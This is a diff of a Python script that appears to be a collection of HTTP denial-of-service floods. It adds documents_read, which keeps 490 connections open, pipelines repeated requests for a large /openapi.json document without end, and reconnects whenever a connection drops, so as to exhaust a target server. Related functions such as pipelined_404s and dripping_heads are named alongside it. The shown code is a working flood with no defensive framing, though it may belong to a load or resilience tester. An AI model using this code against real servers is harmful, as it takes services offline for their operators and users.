@@ -13,7 +13,6 @@ import threading
 import time
 
 SOURCES = 200       # addresses that an attack comes from, where it has many
-JUNK_HEAD = "X-Junk: 1\r\n"
 
 
 def connect(target, source=1):
@@ -133,6 +132,34 @@ def pipelined_404s(target):
             except OSError:
                 time.sleep(0.01)
     crowd(4, flood)
+
+
+def documents_read(target, count=490):
+    """The longest answer there is, asked for without end and taken."""
+    asked = request(target, "GET", "/openapi.json") * 8
+    poll, links = select.poll(), {}
+
+    def again():
+        link = connect(target)
+        link.setblocking(False)
+        links[link.fileno()] = link
+        poll.register(link, select.POLLIN | select.POLLOUT)
+    for _ in range(count):
+        again()
+    while True:
+        for number, event in poll.poll():
+            link = links[number]
+            try:
+                if event & ~select.POLLOUT and not link.recv(1 << 20):
+                    raise OSError
+                if event & select.POLLOUT:
+                    link.send(asked)
+            except BlockingIOError:
+                pass
+            except OSError:
+                poll.unregister(links.pop(number))
+                link.close()
+                again()
 
 
 def dripping_heads(target, count=2000):
